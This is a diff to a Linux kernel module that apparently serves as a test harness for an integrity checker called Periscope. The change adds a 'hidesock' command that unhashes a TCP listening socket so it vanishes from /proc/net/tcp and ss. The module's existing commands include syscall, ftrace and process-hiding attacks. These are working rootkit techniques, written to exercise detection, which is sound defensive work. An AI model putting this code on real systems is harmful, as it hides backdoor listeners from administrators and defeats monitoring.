@@ -18,7 +18,10 @@
  *   usercode PID ADDR              change one byte of a process's memory at ADDR (int3), COW like a debugger
  *   flaghide PID                   set task->flags bit 0x40000000, which Linux 6.1 does not define, on a process
  *                                  (its thread-group leader): the mark rootkits use to filter it out of /proc
- *   restore                        undo syscall, patch, ftrace, hidepid and usercode (not hide: see below)
+ *   hidesock PORT                  unhash the IPv4 TCP listener on PORT from tcp_hashinfo's listening hash: gone from
+ *                                  /proc/net/tcp and ss, still accepting connections already queued (Periscope's
+ *                                  sockets cross-view finds it through the owner's file table)
+ *   restore                        undo syscall, patch, ftrace, hidepid, usercode and hidesock (not hide: see below)
  *   status                         what is currently in effect, and the ftrace hit count
  *
  * One attack of each kind may be in effect at a time; a second one is refused until `restore`.
@@ -70,6 +73,8 @@
 #include <asm/processor-flags.h>
 #include <asm/unistd.h>
 #include <asm/unaligned.h>
+#include <net/inet_hashtables.h>
+#include <net/tcp.h>
 
 #define TAMPER_NAME "periscope_tamper"
 #define MAX_PATCH 16
@@ -510,6 +515,10 @@ static int cmd_flaghide(char *arg)
 	return 0;
 }
 
+/* Attacks appended at the end of this file (issue 13: cross-views); undo_all calls their undo. */
+static int cmd_hidesock(char *arg);
+static bool undo_hidesock(void);
+
 static void undo_all(void)
 {
 	bool any = false;
@@ -568,6 +577,7 @@ static void undo_all(void)
 		uc.active = false;
 		any = true;
 	}
+	any |= undo_hidesock();
 	if (!any)
 		report("restore nothing");
 }
@@ -617,6 +627,8 @@ static ssize_t tamper_write(struct file *file, const char __user *ubuf, size_t c
 		ret = cmd_usercode(a1, a2);
 	else if (!strcmp(verb, "flaghide"))
 		ret = cmd_flaghide(a1);
+	else if (!strcmp(verb, "hidesock"))
+		ret = cmd_hidesock(a1);
 	else if (!strcmp(verb, "restore")) {
 		undo_all();
 		ret = 0;
@@ -624,7 +636,7 @@ static ssize_t tamper_write(struct file *file, const char __user *ubuf, size_t c
 		cmd_status();
 		ret = 0;
 	} else
-		ret = fail(-EINVAL, "error: unknown command '%s' (syscall, patch, ftrace, hide, unhide, rename, hidepid, usercode, restore, status)",
+		ret = fail(-EINVAL, "error: unknown command '%s' (syscall, patch, ftrace, hide, unhide, rename, hidepid, usercode, flaghide, hidesock, restore, status)",
 			   verb);
 	mutex_unlock(&tamper_lock);
 	return ret ? ret : count;
@@ -673,3 +685,71 @@ module_init(tamper_init);
 module_exit(tamper_exit);
 MODULE_LICENSE("GPL");
 MODULE_DESCRIPTION("Rootkit-style attacks on command, for Periscope's integrity tests (test guests only)");
+
+/*
+ * hidesock PORT: what socket-hiding rootkits do to vanish from /proc/net/tcp and ss: the IPv4 TCP listener bound to
+ * PORT is unhashed from tcp_hashinfo's listening hash (6.1: lhash2 buckets are hlist_nulls chains through
+ * sk_nulls_node, under the bucket's lock). The socket stays open in its owner's file table. The node is left
+ * unhashed-and-initialised (pprev NULL), which is what inet_unhash() expects of a socket that is not hashed, so a
+ * close while hidden is harmless; a reference is held so that restore can relink it.
+ */
+static struct {
+	bool active;
+	struct sock *sk;   /* referenced while hidden */
+	struct inet_listen_hashbucket *ilb2;
+	unsigned short port;
+	unsigned long ino;
+} hs;
+
+static int cmd_hidesock(char *arg)
+{
+	struct inet_hashinfo *h = &tcp_hashinfo;
+	unsigned int port, i;
+
+	if (!arg || kstrtouint(arg, 0, &port) || !port || port > 65535)
+		return fail(-EINVAL, "error hidesock: usage: hidesock PORT");
+	if (hs.active)
+		return fail(-EBUSY, "error hidesock: port %u already hidden; restore first", hs.port);
+	for (i = 0; i <= h->lhash2_mask; i++) {
+		struct inet_listen_hashbucket *ilb2 = &h->lhash2[i];
+		struct hlist_nulls_node *node;
+		struct sock *sk;
+
+		spin_lock(&ilb2->lock);
+		sk_nulls_for_each(sk, node, &ilb2->nulls_head) {
+			if (sk->sk_family != AF_INET || sk->sk_num != port || sk->sk_state != TCP_LISTEN)
+				continue;
+			sock_hold(sk);
+			__sk_nulls_del_node_init_rcu(sk);
+			spin_unlock(&ilb2->lock);
+			hs.sk = sk;
+			hs.ilb2 = ilb2;
+			hs.port = port;
+			hs.ino = sock_i_ino(sk);
+			hs.active = true;
+			report("hidesock %u sock=0x%lx inode=%lu bucket=%u", port, (unsigned long)sk, hs.ino, i);
+			return 0;
+		}
+		spin_unlock(&ilb2->lock);
+	}
+	return fail(-ENOENT, "error hidesock: no IPv4 TCP listener on port %u", port);
+}
+
+static bool undo_hidesock(void)
+{
+	bool relinked = false;
+
+	if (!hs.active)
+		return false;
+	spin_lock(&hs.ilb2->lock);
+	/* Still listening and still unhashed as we left it: link it back. */
+	if (hs.sk->sk_state == TCP_LISTEN && sk_unhashed(hs.sk)) {
+		__sk_nulls_add_node_rcu(hs.sk, &hs.ilb2->nulls_head);
+		relinked = true;
+	}
+	spin_unlock(&hs.ilb2->lock);
+	report("restore hidesock %u sock=0x%lx %s", hs.port, (unsigned long)hs.sk, relinked ? "relinked" : "gone (closed)");
+	sock_put(hs.sk);
+	hs.active = false;
+	return true;
+}
